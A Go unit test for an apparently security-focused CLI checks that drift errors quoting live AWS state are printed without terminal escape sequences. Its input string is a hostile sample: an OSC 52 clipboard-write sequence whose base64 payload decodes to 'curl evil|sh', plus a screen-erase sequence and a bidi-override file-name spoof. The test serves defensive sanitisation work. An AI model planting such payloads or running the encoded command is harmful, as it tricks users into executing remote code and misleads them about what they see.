package main

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/asset"
	"github.com/vigil-sec/vigil/fix"
)

// A fix refused for drift quotes the live AWS state; a security group
// description written by an attacker carries 8-bit OSC 52 (clipboard write),
// 8-bit CSI (erase screen) and a bidi override. The CLI prints the error
// without any of them.
func TestDriftErrorIsPrintedSanitised(t *testing.T) {
	t.Parallel()
	live := "description was \"ops\", now \"\xc2\x9d52;c;Y3VybCBldmlsfHNo\x07\xc2\x9b2Jbkt\u202etxt.exe\""
	err := fmt.Errorf("fix rec-1: %w", fmt.Errorf("ec2-revoke-public-ingress on arn:aws:ec2:us-east-1:1:security-group/sg-1\x1b]0;t\x07: %w: %s", fix.ErrDrift, live))
	var b bytes.Buffer
	printError(&b, err)
	out := strings.TrimSuffix(b.String(), "\n")
	for _, r := range out {
		if asset.Unsafe(r) {
			t.Fatalf("printed error keeps %U: %q", r, out)
		}
	}
	if strings.Contains(out, "\x1b") || strings.Contains(out, "52;c;") {
		t.Errorf("escape payload reached the terminal: %q", out)
	}
	if !strings.Contains(out, fix.ErrDrift.Error()) || !strings.Contains(out, "bkttxt.exe") {
		t.Errorf("the sanitised error lost its meaning: %q", out)
	}
}
